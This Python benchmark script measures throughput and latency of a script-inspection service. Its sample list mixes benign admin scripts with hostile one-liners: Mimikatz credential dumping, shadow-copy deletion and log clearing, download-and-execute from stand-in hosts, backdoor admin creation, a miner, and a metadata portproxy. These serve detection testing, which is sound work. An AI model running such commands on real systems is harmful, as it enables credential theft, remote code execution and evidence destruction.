"""HTTP throughput and latency of inline-script inspections, next to the in-process scan rate.

    .venv/bin/python benchmarks/http_load.py [--url URL --key KEY] [--levels 1,4,16,64] [--seconds 5]
        [--database-url postgresql+asyncpg://user@127.0.0.1:5432/db]

Without --url it starts `inspector serve` in a separate process (closed network, a temporary
data folder, its own admin key) and stops it at the end. For each concurrency level it sends
`POST /v1/inspections` with a mix of benign and malicious inline scripts for a bounded time
and prints requests/s and p50/p95/p99 latency. It then runs the same samples through
`Inspector.inspect` in this process (same worker count, no HTTP, no store) and prints the
ratio: HTTP throughput as a share of the in-process rate is the cost of the service layer.
Last, the store alone at the same concurrency, in a fresh store: the two writes an inspection
used to cost (`create_inspection`, then `save_verdict`), and the one write the service makes
now (`save_completed_inspection`, group-committed with the other clients' writes).
The store is SQLite in a temporary data folder, or with --database-url a private schema of
that PostgreSQL database (dropped at the end), for the server and the store-only runs alike.
Everything stays on the loopback interface.
"""

from __future__ import annotations

import argparse
import asyncio
import json
import os
import secrets
import subprocess
import sys
import tempfile
import time
import urllib.request
import uuid
from dataclasses import dataclass
from pathlib import Path

import aiohttp

sys.path.insert(0, str(Path(__file__).resolve().parent.parent))

from inspector.config import load_settings  # noqa: E402
from inspector.extensions.request import InputKind, InspectionInput  # noqa: E402
from inspector.pipeline import InspectionResult, Inspector  # noqa: E402
from inspector.store import Store  # noqa: E402
from inspector.store.testing import drop_schema  # noqa: E402

BENIGN = [
    "Get-Service | Where-Object Status -eq Running | Select-Object -First 10",
    "Install-WindowsFeature -Name Web-Server -IncludeManagementTools",
    "New-Item -ItemType Directory -Path C:\\inetpub\\site -Force | Out-Null\nSet-Location C:\\inetpub\\site",
    "apt-get update && apt-get install -y nginx\nsystemctl enable --now nginx",
    "#!/bin/sh\nmkdir -p /opt/app && cp /tmp/app.tar.gz /opt/app/ && tar -xzf /opt/app/app.tar.gz -C /opt/app",
    "powershell -ExecutionPolicy Unrestricted -File configure-iis.ps1 -SiteName contoso",
    "@echo off\nset LOG=C:\\logs\\setup.txt\nmsiexec /i C:\\temp\\agent.msi /qn /l*v %LOG%",
    "$cfg = Get-Content C:\\app\\settings.json | ConvertFrom-Json\nWrite-Output $cfg.version",
]
MALICIOUS = [
    "Invoke-Mimikatz -DumpCreds",
    "cmd /c vssadmin delete shadows /all /quiet & wevtutil cl Security",
    "$wc = New-Object Net.WebClient; IEX $wc.DownloadString('http://198.51.100.7/a.ps1')",
    "curl -s http://203.0.113.9/x.sh | bash",
    "net user svc01 P@ss /add\nnet localgroup administrators svc01 /add",
    "./xmrig -o stratum+tcp://pool.example:3333 -u 4AbCdEf --donate-level 1",
    "powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA",
    "netsh interface portproxy add v4tov4 listenport=8080 connectaddress=169.254.169.254 connectport=80",
]
SAMPLES = [s for pair in zip(BENIGN, MALICIOUS, strict=True) for s in pair]


@dataclass
class LevelResult:
    concurrency: int
    requests: int
    errors: int
    seconds: float
    latencies_ms: list[float]

    @property
    def rate(self) -> float:
        return self.requests / self.seconds if self.seconds else 0.0

    def percentile(self, p: float) -> float:
        if not self.latencies_ms:
            return float("nan")
        ordered = sorted(self.latencies_ms)
        return ordered[min(len(ordered) - 1, int(round(p / 100 * (len(ordered) - 1))))]


async def drive_http(url: str, key: str, concurrency: int, seconds: float) -> LevelResult:
    """`concurrency` clients in a closed loop for `seconds`; each sends the next sample."""
    headers = {"Authorization": f"Bearer {key}", "Content-Type": "application/json"}
    bodies = [json.dumps({"kind": "script", "content": s}).encode() for s in SAMPLES]
    latencies: list[float] = []
    errors = 0
    stop_at = time.perf_counter() + seconds
    connector = aiohttp.TCPConnector(limit=concurrency)
    async with aiohttp.ClientSession(connector=connector, headers=headers) as session:

        async def client(offset: int) -> None:
            nonlocal errors
            i = offset
            while time.perf_counter() < stop_at:
                started = time.perf_counter()
                async with session.post(url + "/v1/inspections", data=bodies[i % len(bodies)]) as resp:
                    await resp.read()
                    if resp.status == 200:
                        latencies.append((time.perf_counter() - started) * 1000)
                    else:
                        errors += 1
                i += 1

        started = time.perf_counter()
        await asyncio.gather(*(client(n) for n in range(concurrency)))
        elapsed = time.perf_counter() - started
    return LevelResult(concurrency, len(latencies), errors, elapsed, latencies)


class _RawClient:
    """One keep-alive HTTP/1.1 connection with prebuilt requests: a load generator that costs the
    machine little CPU, since it shares the cores with the server it measures. Parses the status
    line and Content-Length; anything else (chunked bodies, a closed connection) is an error."""

    def __init__(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        self.reader, self.writer = reader, writer

    @classmethod
    async def open(cls, url: str) -> _RawClient:
        host, port = url.removeprefix("http://").rstrip("/").split(":")
        return cls(*await asyncio.open_connection(host, int(port)))

    async def exchange(self, request: bytes) -> int:
        self.writer.write(request)
        head = await self.reader.readuntil(b"\r\n\r\n")
        status = int(head[9:12])
        length = None
        for line in head.split(b"\r\n")[1:]:
            name, _, value = line.partition(b":")
            if name.lower() == b"content-length":
                length = int(value)
            elif name.lower() == b"transfer-encoding":
                raise RuntimeError("chunked responses are not expected from this endpoint")
        if length is None:
            raise RuntimeError("response without Content-Length")
        await self.reader.readexactly(length)
        return status

    async def close(self) -> None:
        self.writer.close()
        await self.writer.wait_closed()


def raw_requests(url: str, key: str) -> list[bytes]:
    host = url.removeprefix("http://").rstrip("/")
    out = []
    for sample in SAMPLES:
        body = json.dumps({"kind": "script", "content": sample}).encode()
        out.append(f"POST /v1/inspections HTTP/1.1\r\nHost: {host}\r\nAuthorization: Bearer {key}\r\n"
                   f"Content-Type: application/json\r\nContent-Length: {len(body)}\r\n\r\n".encode() + body)
    return out


async def drive_http_raw(url: str, key: str, concurrency: int, seconds: float) -> LevelResult:
    """`drive_http` with `_RawClient` connections instead of aiohttp's client."""
    requests = raw_requests(url, key)
    latencies: list[float] = []
    errors = 0
    stop_at = time.perf_counter() + seconds
    clients = [await _RawClient.open(url) for _ in range(concurrency)]

    async def run(client: _RawClient, offset: int) -> None:
        nonlocal errors
        i = offset
        while time.perf_counter() < stop_at:
            started = time.perf_counter()
            if await client.exchange(requests[i % len(requests)]) == 200:
                latencies.append((time.perf_counter() - started) * 1000)
            else:
                errors += 1
            i += 1

    started = time.perf_counter()
    try:
        await asyncio.gather(*(run(c, n) for n, c in enumerate(clients)))
    finally:
        elapsed = time.perf_counter() - started
        for c in clients:
            await c.close()
    return LevelResult(concurrency, len(latencies), errors, elapsed, latencies)


async def drive_in_process(inspector: Inspector, concurrency: int, seconds: float) -> LevelResult:
    """The same samples through Inspector.inspect directly: the rate without HTTP and storage."""
    inputs = [InspectionInput(kind=InputKind.SCRIPT, content=s.encode()) for s in SAMPLES]
    latencies: list[float] = []
    stop_at = time.perf_counter() + seconds

    async def client(offset: int) -> None:
        i = offset
        while time.perf_counter() < stop_at:
            started = time.perf_counter()
            await inspector.inspect(inputs[i % len(inputs)])
            latencies.append((time.perf_counter() - started) * 1000)
            i += 1

    started = time.perf_counter()
    await asyncio.gather(*(client(n) for n in range(concurrency)))
    return LevelResult(concurrency, len(latencies), 0, time.perf_counter() - started, latencies)


async def drive_store(store: Store, results: list[InspectionResult], concurrency: int,
                      seconds: float, *, one_write: bool) -> LevelResult:
    """Storing finished inspections without HTTP or scanning: two writes each, or the service's one."""
    latencies: list[float] = []
    stop_at = time.perf_counter() + seconds

    async def client(offset: int) -> None:
        i = offset
        while time.perf_counter() < stop_at:
            result = results[i % len(results)]
            inspection_id = uuid.uuid4().hex
            verdict = result.verdict.model_copy(update={"id": inspection_id})
            started = time.perf_counter()
            if one_write:
                await store.save_completed_inspection(inspection_id, "script", result.plan.redacted_request,
                                                      result.plan.context, "bench", None, verdict, result.blobs)
            else:
                await store.create_inspection(inspection_id, "script", result.plan.redacted_request,
                                              result.plan.context, "bench", None)
                await store.save_verdict(inspection_id, verdict, result.blobs)
            latencies.append((time.perf_counter() - started) * 1000)
            i += 1

    started = time.perf_counter()
    await asyncio.gather(*(client(n) for n in range(concurrency)))
    return LevelResult(concurrency, len(latencies), 0, time.perf_counter() - started, latencies)


@dataclass
class StoreRates:
    two_writes: list[LevelResult]
    one_write: list[LevelResult]
    batches: tuple[int, int, int]  # transactions, inspections, largest batch of the one-write runs


async def in_process_results(workers: int, levels: list[int], seconds: float,
                             database_url: str | None) -> tuple[list[LevelResult], StoreRates]:
    """In-process scan rates per level, then store write rates per level (a fresh store)."""
    overrides: dict[str, str] = {}
    if database_url:
        overrides = {"database_url": database_url, "database_schema": f"bench_{secrets.token_hex(6)}"}
    settings = load_settings(fetch=False, data_dir=tempfile.mkdtemp(prefix="http-load-store-"), **overrides)
    inspector = await Inspector.start(settings, workers=workers, fetching=False)
    try:
        # Every worker process loads its engine on first use: warm them all before measuring.
        await drive_in_process(inspector, workers * 4, 2.0)
        scans = [await drive_in_process(inspector, level, seconds) for level in levels]
        results = [await inspector.inspect(InspectionInput(kind=InputKind.SCRIPT, content=s.encode()))
                   for s in SAMPLES]
    finally:
        await inspector.close()
    store = await Store.open(settings)
    try:
        two = [await drive_store(store, results, level, seconds, one_write=False) for level in levels]
        one = [await drive_store(store, results, level, seconds, one_write=True) for level in levels]
        batches = store.write_batches
    finally:
        await store.close()
        await drop_schema(settings)
    return scans, StoreRates(two, one, batches)


def start_server(workers: int, database_url: str | None,
                 schema: str | None) -> tuple[subprocess.Popen[bytes], str, str, Path]:
    data_dir = Path(tempfile.mkdtemp(prefix="http-load-"))
    env = {k: v for k, v in os.environ.items() if not k.startswith("INSPECTOR_")}
    env.update(INSPECTOR_DATA_DIR=str(data_dir), INSPECTOR_FETCH="false", INSPECTOR_FETCH_ONLY_ALLOWED="true",
               INSPECTOR_API_WORKERS=str(workers), INSPECTOR_API_RATE_PER_S="0", INSPECTOR_API_QUEUE_SIZE="1024",
               INSPECTOR_LOG_LEVEL="warning")
    if database_url and schema:
        env.update(INSPECTOR_DATABASE_URL=database_url, INSPECTOR_DATABASE_SCHEMA=schema)
    inspector_bin = str(Path(sys.executable).parent / "inspector")
    key = subprocess.run([inspector_bin, "keys", "create", "--role", "detector"], env=env, capture_output=True,
                         text=True, check=True, timeout=60).stdout.strip()
    import socket

    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        port = sock.getsockname()[1]
    log = (data_dir / "serve.log").open("wb")
    process = subprocess.Popen([inspector_bin, "serve", "--host", "127.0.0.1", "--port", str(port)], env=env,
                               stdout=log, stderr=subprocess.STDOUT)
    url = f"http://127.0.0.1:{port}"
    deadline = time.monotonic() + 60
    while True:
        try:
            urllib.request.urlopen(url + "/healthz", timeout=1).close()
            return process, url, key, data_dir
        except OSError:
            if process.poll() is not None or time.monotonic() > deadline:
                raise SystemExit(f"server did not start; see {data_dir / 'serve.log'}") from None
            time.sleep(0.2)


async def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--url", help="a running service (default: start one)")
    parser.add_argument("--key", help="an API key for --url")
    parser.add_argument("--levels", default="1,4,16,64", help="concurrency levels, comma separated")
    parser.add_argument("--seconds", type=float, default=5.0, help="duration of each level (max 60)")
    parser.add_argument("--workers", type=int, default=os.cpu_count() or 1, help="scan worker processes")
    parser.add_argument("--database-url", help="a PostgreSQL URL (postgresql+asyncpg://) on this machine; "
                                               "default: SQLite in a temporary folder")
    args = parser.parse_args()
    seconds = min(max(args.seconds, 0.5), 60.0)
    levels = [max(1, min(int(x), 1024)) for x in args.levels.split(",")]
    process = None
    server_schema = f"bench_{secrets.token_hex(6)}" if args.database_url else None
    if args.url:
        if not args.key:
            raise SystemExit("--url needs --key")
        url, key = args.url.rstrip("/"), args.key
    else:
        process, url, key, data_dir = start_server(args.workers, args.database_url, server_schema)
        print(f"server: {url} (pid {process.pid}, {args.workers} workers, data {data_dir}, "
              f"store {'PostgreSQL' if args.database_url else 'SQLite'})")
    try:
        await drive_http(url, key, args.workers * 4, 2.0)  # warm every worker process; not reported
        http = [await drive_http(url, key, level, seconds) for level in levels]
    finally:
        if process is not None:
            process.terminate()
            process.wait(timeout=30)
        if args.database_url and server_schema:
            await drop_schema(load_settings(database_url=args.database_url, database_schema=server_schema))
    local, writes = await in_process_results(args.workers, levels, seconds, args.database_url)
    print(f"samples: {len(BENIGN)} benign + {len(MALICIOUS)} malicious inline scripts; {args.workers} workers; "
          f"{seconds:g} s per level")
    print(f"{'concurrency':>11}  {'http req/s':>10}  {'p50 ms':>7}  {'p95 ms':>7}  {'p99 ms':>7}  "
          f"{'in-process req/s':>16}  {'ratio':>6}  {'store 2 writes/s':>16}  {'store 1 write/s':>15}  errors")
    for h, l, two, one in zip(http, local, writes.two_writes, writes.one_write, strict=True):
        ratio = h.rate / l.rate if l.rate else float("nan")
        print(f"{h.concurrency:>11}  {h.rate:>10.1f}  {h.percentile(50):>7.1f}  {h.percentile(95):>7.1f}  "
              f"{h.percentile(99):>7.1f}  {l.rate:>16.1f}  {ratio:>6.0%}  {two.rate:>16.1f}  {one.rate:>15.1f}  "
              f"{h.errors}")
    transactions, items, largest = writes.batches
    if transactions:
        print(f"store 1 write: {items} inspections in {transactions} transactions "
              f"({items / transactions:.1f} per transaction on average, largest {largest})")
    best = max(http, key=lambda r: r.rate)
    best_local = max(local, key=lambda r: r.rate)
    print(f"peak: http {best.rate:.1f} req/s (c={best.concurrency}, p99 {best.percentile(99):.1f} ms) vs "
          f"in-process {best_local.rate:.1f} req/s (c={best_local.concurrency}): "
          f"{best.rate / best_local.rate:.0%} (target >= 70%, p99 < 100 ms)")

if __name__ == "__main__":
    asyncio.run(main())
